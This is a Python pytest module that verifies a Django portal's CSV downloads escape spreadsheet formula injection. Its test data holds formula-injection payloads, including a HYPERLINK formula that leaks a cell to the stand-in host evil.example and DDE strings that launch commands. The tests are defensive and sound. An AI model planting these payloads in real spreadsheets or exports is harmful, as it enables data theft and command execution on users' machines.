"""Every CSV the portal serves is formula-safe (issue 13, item 6).

The URLconf is walked for CSV routes, so a new CSV download without a row here fails the suite;
each route is then fetched with stakeholder text that a spreadsheet would run as a formula in
every text column it shows, and every cell of the answer is checked. A source check keeps every
CSV writer in the one module that escapes (`wsis/csv_files.py`).
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from events.enums import OutcomeStatus
from roadmaps.enums import CLAUSE_TEXT_FIELDS, VersionStatus
from roadmaps.models import Clause
from roadmaps.views import DOWNLOADS
from stocktaking.enums import EntryStatus
from stocktaking.prizes.enums import Phase, PrizeEntryStatus
from tests.events.factories import OutcomeDocumentFactory, SessionFactory
from tests.factories import OrganisationFactory, secretariat_user
from tests.prizes.factories import ContestFactory, PrizeEntryFactory
from tests.roadmaps.factories import version_with_clauses
from tests.stocktaking.factories import EntryFactory
from wsis.csv_files import FORMULA_STARTS, csv_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "title": HYPERLINK,
    "summary": "+1+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "category": "-2+3+cmd|' /C calc'!A0",
    "clause": "=1+1",
}


def _organisation():
    return OrganisationFactory(name=HOSTILE["organisation"])


def _stocktaking_export(client) -> str:
    EntryFactory(
        status=EntryStatus.APPROVED,
        title=HOSTILE["title"],
        summary=HOSTILE["summary"],
        organisation=_organisation(),
    )
    return "/stocktaking/export.csv"


def _moderation_export(client) -> str:
    EntryFactory(
        status=EntryStatus.SUBMITTED,
        title=HOSTILE["title"],
        summary=HOSTILE["summary"],
        organisation=_organisation(),
    )
    client.force_login(secretariat_user())
    return "/admin/stocktaking/entry/export-csv/?status__exact=submitted"


def _winner():
    contest = ContestFactory(in_phase=Phase.WINNERS_ANNOUNCED, at=timezone.now())
    category = contest.categories.order_by("number").first()
    category.name = HOSTILE["category"]
    category.save(update_fields=["name"])
    PrizeEntryFactory(
        contest=contest,
        category=category,
        status=PrizeEntryStatus.WINNER,
        title=HOSTILE["title"],
        organisation=_organisation(),
    )
    return contest


def _prize_results(client) -> str:
    return f"/prizes/{_winner().year}/results.csv"


def _prize_tally(client) -> str:
    client.force_login(secretariat_user())
    return f"/prizes/{_winner().year}/manage/tally.csv"


def _roadmap_version(client) -> str:
    version = version_with_clauses(status=VersionStatus.PUBLISHED, clauses=2)
    Clause.objects.filter(version=version).update(
        label="=A1",
        **{name: f"<p>{HOSTILE['clause']}</p>" for name, _heading in CLAUSE_TEXT_FIELDS},
    )
    return f"/roadmaps/{version.roadmap.action_line.slug}/versions/{version.number}/download.csv"


def _outcomes_export(client) -> str:
    session = SessionFactory(title=HOSTILE["title"], organisers=[_organisation()])
    OutcomeDocumentFactory(
        session=session, status=OutcomeStatus.PUBLISHED, thematic_suggestions=HOSTILE["clause"]
    )
    return "/events/outcomes/export.csv"


def _study_group(client) -> str:
    from evidence.models import QuestionEntryLink, StudyGroupQuestion

    question = StudyGroupQuestion.objects.get(study_period="2022-2025", study_group=1, number=5)
    entry = EntryFactory(
        status=EntryStatus.APPROVED, title=HOSTILE["title"], organisation=_organisation()
    )
    QuestionEntryLink.objects.create(question=question, entry=entry)
    return "/study-groups/2022-2025/sg1.csv"


# Every URL that answers a CSV: its URL name → how to make hostile data and the path to fetch.
CSV_ROUTES = {
    "stocktaking:export_csv": _stocktaking_export,
    "admin:stocktaking_entry_export_csv": _moderation_export,
    "prizes:results_csv": _prize_results,
    "prizes:tally_csv": _prize_tally,
    "roadmaps:version_download": _roadmap_version,
    "outcomes_export_csv": _outcomes_export,
    "evidence:study_group_csv": _study_group,
}
# URLs with "csv" in them that take a CSV in rather than give one out.
CSV_UPLOADS = ("admin:events_session_import_csv",)


def _patterns(patterns, namespace: str | None = None, prefix: str = ""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = namespace
            if pattern.namespace:
                inner = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
            yield from _patterns(pattern.url_patterns, inner, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.name:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, prefix + str(pattern.pattern)


def test_every_csv_route_has_a_row():
    found = {name for name, route in _patterns(get_resolver().url_patterns) if "csv" in route}
    # The roadmap download names its format in the URL; CSV is one of them.
    assert DOWNLOADS["csv"] == "text/csv; charset=utf-8"
    found.add("roadmaps:version_download")
    assert sorted(found - set(CSV_UPLOADS)) == sorted(CSV_ROUTES)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("name", sorted(CSV_ROUTES))
def test_csv_route_escapes_formulas(client, name):
    path = CSV_ROUTES[name](client)
    response = client.get(path)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = _cells(content.decode())
    assert len(rows) >= 2
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in cells if cell.lstrip(" \n")[:1] in FORMULA_STARTS]
    assert dangerous == []
    escaped = {cell for cell in cells if cell.startswith("'")}
    shown = {value for value in HOSTILE.values() if "'" + value in escaped}
    assert shown, f"no hostile text reached the CSV of {name}: {rows}"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),
        ("-3", "'-3"),
        ("A=1", "A=1"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        (True, "true"),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_only_the_one_writer_writes_csv():
    """`csv.writer`/`csv.DictWriter` appear in wsis/csv_files.py only."""
    writers = []
    root = Path(settings.BASE_DIR)
    for app in ("wsis", "stocktaking", "roadmaps", "events"):
        for source in sorted((root / app).rglob("*.py")):
            tree = ast.parse(source.read_text(), filename=str(source))
            for node in ast.walk(tree):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.append(str(source.relative_to(root)))
    assert writers == ["wsis/csv_files.py"]
